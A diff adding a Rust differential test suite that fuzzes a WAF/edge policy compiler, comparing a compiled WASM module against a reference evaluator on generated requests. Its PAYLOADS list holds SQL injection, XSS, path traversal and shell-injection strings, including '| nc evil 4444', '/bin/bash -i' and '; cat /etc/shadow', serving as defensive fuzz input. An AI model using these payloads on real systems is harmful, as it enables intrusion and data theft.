@@ -1,0 +1,664 @@
+//! Differential tests: the compiled, optimized policy module run in wasmtime and the
+//! reference evaluator must make the same decision on every request.
+//!
+//! Policies: every example, every golden case that checks clean, and randomly generated
+//! policies. Requests: generated from each plan's own vocabulary (its route segments, hosts,
+//! countries, origins) mixed with hostile input (attack payloads in every encoding, invalid
+//! UTF-8, dot segments, forged forwarding headers, oversized requests). `PROPTEST_CASES`
+//! raises the number of requests for a longer local run.
+
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
+use std::path::Path;
+
+use edgepack_bundles::request::Request;
+use edgepack_compiler::eval::{self, Evaluator};
+use edgepack_compiler::pipeline;
+use edgepack_compiler::plan::{HostPlan, RegionPlan, SegmentPlan};
+use edgepack_runtime_min::host::{HostError, PolicyEngine, PolicyInstance};
+use proptest::prelude::*;
+use proptest::test_runner::{Config, TestRunner};
+
+/// Compiles every region of the policy at `path`; `None` when it does not check clean.
+fn compile_policy(path: &Path, engine: &PolicyEngine) -> Option<Vec<(RegionPlan, PolicyInstance)>> {
+    let checked = edgepack_schema::check(path).ok()?;
+    let policy = checked.policy.as_ref()?;
+    let plans = pipeline::plans(policy, &checked, &[]).ok()?;
+    Some(
+        plans
+            .into_iter()
+            .map(|plan| {
+                let compiled = pipeline::compile(plan).expect("a clean policy compiles");
+                let instance = engine
+                    .compile(&compiled.wasm)
+                    .and_then(|m| m.instantiate())
+                    .expect("the module loads");
+                (compiled.plan, instance)
+            })
+            .collect(),
+    )
+}
+
+/// Decides with both, and fails with the request when they differ.
+fn compare(
+    plan: &RegionPlan,
+    evaluator: &Evaluator<'_>,
+    instance: &mut PolicyInstance,
+    request: &Request,
+) -> Result<(), TestCaseError> {
+    let body_limit = plan.waf.as_ref().map_or(0, |w| w.body_limit);
+    let reference = eval::parse(request, body_limit).map(|parsed| evaluator.eval(&parsed));
+    let module = instance.decide(request);
+    match (reference, module) {
+        (Ok(expected), Ok(actual)) => prop_assert_eq!(
+            &actual,
+            &expected,
+            "region {}: module and evaluator disagree on {:?}",
+            plan.region,
+            request
+        ),
+        (Err(expected), Err(HostError::Request(actual))) => prop_assert_eq!(actual, expected),
+        (reference, module) => {
+            return Err(TestCaseError::fail(format!(
+                "region {}: evaluator {reference:?} but module {module:?} on {request:?}",
+                plan.region
+            )));
+        }
+    }
+    Ok(())
+}
+
+const PAYLOADS: &[&str] = &[
+    "1 union select password from users",
+    "1 UNION/**/SELECT 1",
+    "1' or '1'='1",
+    "x\" and \"a\"=\"a",
+    "'; drop table users",
+    "sleep(5)",
+    "BENCHMARK(1000,md5(1))",
+    "waitfor delay '0:0:5'",
+    "<script>alert(1)</script>",
+    "<svg/onload=alert(1)>",
+    "<img src=x onerror=alert(1)>",
+    "javascript:alert(1)",
+    "&lt;script&gt;",
+    "&#60;script&#62;",
+    "&#x3c;svg&#x3E;",
+    "&#233;&#8364;&#xD800;&#1114112;",
+    "../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "/proc/self/environ",
+    "; cat /etc/shadow",
+    "$(id)",
+    "`whoami`",
+    "| nc evil 4444",
+    "/bin/bash -i",
+    "a  b\t\tc\n\nd",
+    "nul\0byte",
+    "%27%20or%201%3D1",
+    "%253Cscript%253E",
+    "+plus+signs+",
+    "normal value",
+    "ÜnÏcödé",
+    "./a/../b//c/./",
+    "",
+];
+
+fn payload() -> impl Strategy<Value = Vec<u8>> {
+    prop_oneof![
+        6 => proptest::sample::select(PAYLOADS).prop_map(|p| p.as_bytes().to_vec()),
+        2 => proptest::sample::select(PAYLOADS).prop_map(|p| percent_encode(p.as_bytes())),
+        1 => proptest::sample::select(PAYLOADS)
+            .prop_map(|p| percent_encode(&percent_encode(p.as_bytes()))),
+        2 => proptest::collection::vec(any::<u8>(), 0..40),
+        2 => "[a-zA-Z0-9 _.%&;<>=+'\"/-]{0,30}".prop_map(String::into_bytes),
+    ]
+}
+
+fn percent_encode(bytes: &[u8]) -> Vec<u8> {
+    let mut out = Vec::new();
+    for &b in bytes {
+        if b.is_ascii_alphanumeric() {
+            out.push(b);
+        } else {
+            out.extend_from_slice(format!("%{b:02X}").as_bytes());
+        }
+    }
+    out
+}
+
+/// What the generator draws path segments, hosts and countries from.
+#[derive(Clone, Debug)]
+struct Vocabulary {
+    segments: Vec<String>,
+    hosts: Vec<String>,
+    countries: Vec<String>,
+    country_header: Option<String>,
+    origins: Vec<String>,
+}
+
+fn vocabulary(plan: &RegionPlan) -> Vocabulary {
+    let mut segments: Vec<String> = plan
+        .routes
+        .iter()
+        .flat_map(|r| &r.segments)
+        .filter_map(|s| match s {
+            SegmentPlan::Literal(l) => Some(l.clone()),
+            _ => None,
+        })
+        .collect();
+    segments.extend(
+        [
+            "x", "1", "..", ".", "%2e%2e", "a%2Fb", "%00", "é", "<script>", "' or 1=1",
+        ]
+        .map(String::from),
+    );
+    let mut hosts: Vec<String> = plan
+        .routes
+        .iter()
+        .flat_map(|r| &r.hosts)
+        .map(|h| match h {
+            HostPlan::Exact(e) => e.clone(),
+            HostPlan::Wildcard(w) => format!("sub{w}"),
+        })
+        .collect();
+    hosts.extend(
+        [
+            "localhost",
+            "EXAMPLE.com:8443",
+            "www.example.com",
+            "example.com",
+            "a.b.example.com.",
+        ]
+        .map(String::from),
+    );
+    let mut countries: Vec<String> = plan.zone_countries.iter().flatten().cloned().collect();
+    if let Some(geo) = &plan.geo {
+        for list in [&geo.block, &geo.allow].into_iter().flatten() {
+            countries.extend(list.countries.iter().cloned());
+        }
+    }
+    countries.extend(["BR", "kp", "XX", "D", "", "DEU", "1A"].map(String::from));
+    let mut origins: Vec<String> = plan.cors.iter().flat_map(|c| c.origins.clone()).collect();
+    origins.push("https://evil.example".into());
+    Vocabulary {
+        segments,
+        hosts,
+        countries,
+        country_header: plan.geo.as_ref().and_then(|g| g.country_header.clone()),
+        origins,
+    }
+}
+
+fn request_strategy(v: Vocabulary) -> impl Strategy<Value = Request> {
+    let method = proptest::sample::select(vec![
+        "GET", "GET", "POST", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PURGE",
+    ]);
+    let segment = prop_oneof![
+        8 => proptest::sample::select(v.segments.clone()),
+        1 => "[a-z0-9]{1,6}",
+    ];
+    let path = (
+        proptest::collection::vec(segment, 0..7),
+        any::<bool>(),
+        any::<bool>(),
+    )
+        .prop_map(|(segments, trailing, double)| {
+            let mut p = String::new();
+            for s in segments {
+                p.push('/');
+                if double {
+                    p.push('/');
+                }
+                p.push_str(&s);
+            }
+            if trailing || p.is_empty() {
+                p.push('/');
+            }
+            p
+        });
+    let query = proptest::collection::vec(("[a-z]{0,5}", payload()), 0..4).prop_map(|pairs| {
+        let mut q = Vec::new();
+        for (i, (name, value)) in pairs.into_iter().enumerate() {
+            if i > 0 {
+                q.push(b'&');
+            }
+            q.extend_from_slice(name.as_bytes());
+            q.push(b'=');
+            q.extend(value.into_iter().filter(|b| *b != b'&' && *b != b'#'));
+        }
+        q
+    });
+    let peer = prop_oneof![
+        Just(IpAddr::V4(Ipv4Addr::LOCALHOST)),
+        Just(IpAddr::V6(Ipv6Addr::LOCALHOST)),
+        Just(IpAddr::V4(Ipv4Addr::new(203, 0, 113, 9))),
+        Just(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 7))),
+        Just(IpAddr::V4(Ipv4Addr::new(81, 2, 69, 160))),
+    ];
+    let forwarded = proptest::collection::vec(
+        prop_oneof![
+            Just("127.0.0.1".to_string()),
+            Just("203.0.113.7".to_string()),
+            Just("::1".to_string()),
+            Just("garbage".to_string()),
+            Just("89.160.20.112".to_string()),
+        ],
+        0..4,
+    );
+    let headers = (
+        proptest::option::of(proptest::sample::select(v.countries.clone())),
+        proptest::option::of(proptest::sample::select(v.origins.clone())),
+        proptest::option::of(prop_oneof![
+            Just("Bearer abc.def.ghi"),
+            Just("Basic dXNlcjpw"),
+            Just("bearer ")
+        ]),
+        proptest::option::of(("[a-z]{1,4}", payload())),
+        forwarded,
+        proptest::option::of(proptest::sample::select(vec![
+            "GET", "POST", "PUT", "PATCH", "BREW",
+        ])),
+        proptest::option::of(payload()),
+    );
+    let body = prop_oneof![
+        3 => Just((None::<&str>, Vec::new())),
+        1 => payload().prop_map(|p| (Some("application/x-www-form-urlencoded"), [b"a=".as_slice(), &p, b"&b=c"].concat())),
+        1 => (payload(), any::<u8>()).prop_map(|(p, n)| {
+            let value = String::from_utf8_lossy(&p).replace(['"', '\\'], "");
+            (Some("application/json"), format!("{{\"user\":{{\"name\":\"{value}\",\"n\":{n}}},\"tags\":[\"x\",true,null]}}").into_bytes())
+        }),
+        1 => proptest::collection::vec(any::<u8>(), 0..300).prop_map(|b| (Some("text/plain"), b)),
+    ];
+    let host = proptest::sample::select(v.hosts.clone());
+    (method, path, query, peer, headers, body, host).prop_map(
+        move |(method, path, query, peer, headers, (content_type, body), host)| {
+            let (country, origin, auth, cookie, forwarded, acrm, referer) = headers;
+            let mut request = Request::new(method, &path).host(&host).peer(peer);
+            request.query = query;
+            if let (Some(country), Some(header)) = (country, &v.country_header) {
+                request = request.header(header, country);
+            }
+            if let Some(origin) = origin {
+                request = request.header("origin", origin);
+            }
+            if let Some(auth) = auth {
+                request = request.header("authorization", auth);
+            }
+            if let Some((name, value)) = cookie {
+                let value: Vec<u8> = value.into_iter().filter(|b| *b != b';').collect();
+                request = request.header("cookie", [name.as_bytes(), b"=", &value].concat());
+            }
+            if !forwarded.is_empty() {
+                request = request.header("x-forwarded-for", forwarded.join(", "));
+            }
+            if let Some(m) = acrm {
+                request = request.header("access-control-request-method", m);
+            }
+            if let Some(r) = referer {
+                request = request.header("referer", r);
+            }
+            if let Some(ct) = content_type {
+                request = request.header("content-type", ct);
+            }
+            request.body(body)
+        },
+    )
+}
+
+fn cases(default: u32) -> u32 {
+    std::env::var("PROPTEST_CASES")
+        .ok()
+        .and_then(|c| c.parse().ok())
+        .unwrap_or(default)
+}
+
+fn run_policy(name: &str, regions: &mut [(RegionPlan, PolicyInstance)], cases: u32) {
+    for (plan, instance) in regions.iter_mut() {
+        let evaluator = Evaluator::new(plan);
+        let mut runner = TestRunner::new(Config {
+            cases,
+            failure_persistence: None,
+            ..Config::default()
+        });
+        let strategy = request_strategy(vocabulary(plan));
+        let instance = std::cell::RefCell::new(instance);
+        let result = runner.run(&strategy, |request| {
+            compare(plan, &evaluator, &mut instance.borrow_mut(), &request)
+        });
+        if let Err(e) = result {
+            panic!("{name}, region {}: {e}", plan.region);
+        }
+    }
+}
+
+#[test]
+fn examples_agree() {
+    let engine = PolicyEngine::new().expect("engine");
+    for policy in edgepack_tests::example_policies() {
+        let mut regions = compile_policy(&policy, &engine).expect("examples check clean");
+        run_policy(&policy.display().to_string(), &mut regions, cases(600));
+    }
+}
+
+#[test]
+fn valid_golden_policies_agree() {
+    let engine = PolicyEngine::new().expect("engine");
+    let mut compiled = 0;
+    for file in edgepack_tests::kdl_files(Path::new("cases")) {
+        let policy = if file.file_name().is_some_and(|n| n == "edgepack.kdl") {
+            file.parent().map(Path::to_path_buf).unwrap_or(file.clone())
+        } else {
+            file.clone()
+        };
+        if let Some(mut regions) = compile_policy(&policy, &engine) {
+            compiled += 1;
+            run_policy(&policy.display().to_string(), &mut regions, cases(100));
+        }
+    }
+    assert!(compiled >= 1, "no golden case checks clean");
+}
+
+/// Hostile requests the generator rarely reaches: too many headers, segments, arguments;
+/// bodies over the WAF's limit; invalid UTF-8 everywhere.
+#[test]
+fn hostile_requests_agree() {
+    let engine = PolicyEngine::new().expect("engine");
+    let example = edgepack_tests::workspace_root().join("examples/global-api");
+    let mut regions = compile_policy(&example, &engine).expect("example compiles");
+    let mut requests = Vec::new();
+    let mut many_headers = Request::new("GET", "/api/data/1");
+    for i in 0..200 {
+        many_headers = many_headers.header(&format!("x-{i}"), "v");
+    }
+    requests.push(many_headers);
+    requests.push(Request::new("GET", &"/a".repeat(300)));
+    requests.push(Request::new(
+        "GET",
+        &format!("/api/data/x?{}", "a=1&".repeat(2000)),
+    ));
+    requests.push(
+        Request::new("POST", "/api/data/x")
+            .header("content-type", "application/x-www-form-urlencoded")
+            .body(format!("q={}", "union select ".repeat(10_000))),
+    );
+    let mut binary = Request::new("GET", "/api/data/x");
+    binary.path = vec![b'/', 0xff, 0xfe, b'/', 0x80];
+    binary.query = vec![b'q', b'=', 0xc3, 0x28, b'%', 0xff];
+    requests.push(
+        binary
+            .header("cf-ipcountry", [0xffu8, 0xfe])
+            .peer(IpAddr::V4(Ipv4Addr::LOCALHOST)),
+    );
+    requests.push(Request::new("GET", &format!("/docs/{}", "a/".repeat(120))));
+    requests.push(Request::new(
+        "GET",
+        &format!("/docs/{}", "%20".repeat(2000)),
+    ));
+    let deep_json = format!("{}1{}", "[".repeat(100), "]".repeat(100));
+    requests.push(
+        Request::new("POST", "/api/data/x")
+            .header("content-type", "application/json")
+            .body(deep_json),
+    );
+    for (plan, instance) in regions.iter_mut() {
+        let evaluator = Evaluator::new(plan);
+        for request in &requests {
+            if let Err(e) = compare(plan, &evaluator, instance, request) {
+                panic!("{e}");
+            }
+        }
+    }
+}
+
+const REGEXES: &[&str] = &[
+    r"union\s+select",
+    r"(?i)<script",
+    r"a+b",
+    r"\.\./",
+    r"\bor\b\s*1=1",
+    r"[0-9]{3}",
+    r"^admin$",
+    r"x.*y",
+    r"%[0-9a-f]{2}",
+    r"\x00",
+    r"é",
+    r"(?i)JAVASCRIPT:",
+    r"ab|cd|ef",
+    r"\w+@\w+",
+    r"^$",
+    r"/etc/(passwd|shadow)",
+    r"[<>]",
+    r"\s{2,}",
+];
+
+const LITERALS: &[&str] = &[
+    "../", "<", "select", "SELECT", "&amp;", "%2e", " ", "/./", "a",
+];
+
+const DECODINGS: &[&str] = &[
+    "url-decode",
+    "lowercase",
+    "html-entity-decode",
+    "normalize-path",
+    "compress-whitespace",
+    "remove-nulls",
+];
+
+const PARTS: &[&str] = &[
+    "path",
+    "query",
+    "args",
+    "arg-names",
+    "headers",
+    "header:referer",
+    "cookies",
+    "cookie:session",
+    "body",
+];
+
+fn waf_rule() -> impl Strategy<Value = String> {
+    (
+        proptest::sample::subsequence(PARTS, 1..4),
+        proptest::collection::vec(proptest::sample::select(DECODINGS), 0..4),
+        proptest::sample::subsequence(REGEXES, 0..3),
+        proptest::sample::subsequence(LITERALS, 0..2),
+        1u32..6,
+    )
+        .prop_map(|(parts, decode, regexes, literals, score)| {
+            let mut rule = format!("score={score} {{ in");
+            for p in parts {
+                rule.push_str(&format!(" \"{p}\""));
+            }
+            rule.push(';');
+            if !decode.is_empty() {
+                rule.push_str(" decode");
+                for d in decode {
+                    rule.push_str(&format!(" \"{d}\""));
+                }
+                rule.push(';');
+            }
+            for r in regexes {
+                rule.push_str(&format!(" regex #\"{r}\"#;"));
+            }
+            for l in literals {
+                rule.push_str(&format!(" literal \"{l}\";"));
+            }
+            if !rule.contains("regex") && !rule.contains("literal") {
+                rule.push_str(" literal \"x\";");
+            }
+            rule.push_str(" }");
+            rule
+        })
+}
+
+fn route() -> impl Strategy<Value = String> {
+    let segment = proptest::sample::select(vec!["a", "b", "api", "x", ":p", ":q"]);
+    (
+        proptest::collection::vec(segment, 0..4),
+        any::<bool>(),
+        proptest::sample::subsequence(vec!["GET", "POST", "PUT"], 0..3),
+        proptest::sample::subsequence(vec!["example.com", "*.example.com"], 0..2),
+        0u8..5,
+        proptest::option::of(proptest::sample::select(vec!["off", "log", "block"])),
+        any::<bool>(),
+        any::<bool>(),
+    )
+        .prop_map(
+            |(segments, rest, methods, hosts, action, waf, cache, cors)| {
+                let mut pattern = String::new();
+                let mut seen = Vec::new();
+                for s in segments {
+                    let s = if s.starts_with(':') && seen.contains(&s) {
+                        "z"
+                    } else {
+                        s
+                    };
+                    seen.push(s);
+                    pattern.push('/');
+                    pattern.push_str(s);
+                }
+                if rest {
+                    pattern.push_str("/*");
+                }
+                if pattern.is_empty() {
+                    pattern.push('/');
+                }
+                let mut body = String::new();
+                if !methods.is_empty() {
+                    body.push_str(&format!(
+                        "methods {}; ",
+                        methods
+                            .iter()
+                            .map(|m| format!("\"{m}\""))
+                            .collect::<Vec<_>>()
+                            .join(" ")
+                    ));
+                }
+                if !hosts.is_empty() {
+                    body.push_str(&format!(
+                        "hosts {}; ",
+                        hosts
+                            .iter()
+                            .map(|h| format!("\"{h}\""))
+                            .collect::<Vec<_>>()
+                            .join(" ")
+                    ));
+                }
+                if let Some(mode) = waf {
+                    body.push_str(&format!("waf mode=\"{mode}\"; "));
+                }
+                if cache {
+                    body.push_str("cache ttl=\"1m\"; ");
+                }
+                if cors {
+                    body.push_str("cors \"web\"; ");
+                }
+                let capture = if rest { "{*}" } else { "" };
+                body.push_str(match action {
+                    0 => "proxy \"app\"",
+                    1 => "respond 200 body=\"ok\"",
+                    2 => "block 403",
+                    3 => "ratelimit \"rl\"; proxy \"app\"",
+                    _ => "",
+                });
+                if action == 4 {
+                    body.push_str(&format!(
+                        "redirect \"https://new.example/{capture}\" status=301"
+                    ));
+                }
+                format!("route \"{pattern}\" {{ {body} }}")
+            },
+        )
+}
+
+fn policy() -> impl Strategy<Value = String> {
+    (
+        proptest::collection::vec(route(), 1..10),
+        proptest::collection::vec(waf_rule(), 0..6),
+        proptest::sample::subsequence(vec!["KP", "IR", "DE", "US"], 0..3),
+        any::<bool>(),
+        1u32..8,
+    )
+        .prop_map(|(routes, rules, blocked, allow, threshold)| {
+            let mut kdl = String::from(
+                "edgepack 1\nzone \"EU\" { countries \"DE\" \"FR\" }\nzone \"US\" { countries \"US\" }\n\
+                 region \"r-eu\" zone=\"EU\"\nregion \"r-us\" zone=\"US\"\nregion \"r-global\" zone=\"GLOBAL\"\n\
+                 origin \"app\" { zone \"EU\" url=\"http://eu.internal\"; zone \"US\" url=\"http://us.internal\"; zone \"GLOBAL\" url=\"http://gl.internal\" }\n\
+                 ratelimit \"rl\" key=\"client-ip\" limit=10 per=\"1s\"\n\
+                 cors \"web\" { origins \"https://app.example.com\"; methods \"GET\" \"POST\" }\n\
+                 residency \"EU\" { drop \"x-user-email\" }\n",
+            );
+            kdl.push_str("geo {\n country-header \"cf-ipcountry\"\n trusted-peers \"127.0.0.0/8\" \"::1\"\n");
+            if !blocked.is_empty() {
+                kdl.push_str(&format!(" block {} status=451\n", blocked.iter().map(|c| format!("\"{c}\"")).collect::<Vec<_>>().join(" ")));
+            }
+            if allow {
+                kdl.push_str(" allow \"DE\" \"US\" \"FR\" \"BR\" status=403\n");
+            }
+            kdl.push_str("}\n");
+            if !rules.is_empty() {
+                kdl.push_str(&format!("waf threshold={threshold} body-limit=\"1KiB\" body-overflow=\"block\" {{\n"));
+                for (i, rule) in rules.iter().enumerate() {
+                    kdl.push_str(&format!("  rule \"r{i}\" {rule}\n"));
+                }
+                kdl.push_str("}\n");
+            }
+            for r in routes {
+                kdl.push_str(&r);
+                kdl.push('\n');
+            }
+            kdl
+        })
+}
+
+#[test]
+fn generated_policies_agree() {
+    let engine = PolicyEngine::new().expect("engine");
+    let mut runner = TestRunner::new(Config {
+        cases: cases(24).min(200),
+        failure_persistence: None,
+        ..Config::default()
+    });
+    let compiled = std::cell::Cell::new(0);
+    runner
+        .run(&policy(), |kdl| {
+            let dir = tempdir();
+            std::fs::write(dir.join("edgepack.kdl"), &kdl).expect("write policy");
+            let regions = compile_policy(&dir, &engine);
+            let _ = std::fs::remove_dir_all(&dir);
+            // Random routes can be ambiguous; such policies are rejected by `check`.
+            let Some(mut regions) = regions else {
+                return Ok(());
+            };
+            compiled.set(compiled.get() + 1);
+            for (plan, instance) in regions.iter_mut() {
+                let evaluator = Evaluator::new(plan);
+                let mut inner = TestRunner::new(Config {
+                    cases: 150,
+                    failure_persistence: None,
+                    ..Config::default()
+                });
+                let instance = std::cell::RefCell::new(instance);
+                inner
+                    .run(&request_strategy(vocabulary(plan)), |request| {
+                        compare(plan, &evaluator, &mut instance.borrow_mut(), &request)
+                    })
+                    .map_err(|e| TestCaseError::fail(format!("{e}\npolicy:\n{kdl}")))?;
+            }
+            Ok(())
+        })
+        .unwrap_or_else(|e| panic!("{e}"));
+    assert!(compiled.get() > 0, "every generated policy was rejected");
+}
+
+fn tempdir() -> std::path::PathBuf {
+    use std::sync::atomic::{AtomicU64, Ordering};
+    static NEXT: AtomicU64 = AtomicU64::new(0);
+    let dir = std::env::temp_dir().join(format!(
+        "edgepack-diff-{}-{}",
+        std::process::id(),
+        NEXT.fetch_add(1, Ordering::Relaxed)
+    ));
+    std::fs::create_dir_all(&dir).expect("temp dir");
+    dir
+}
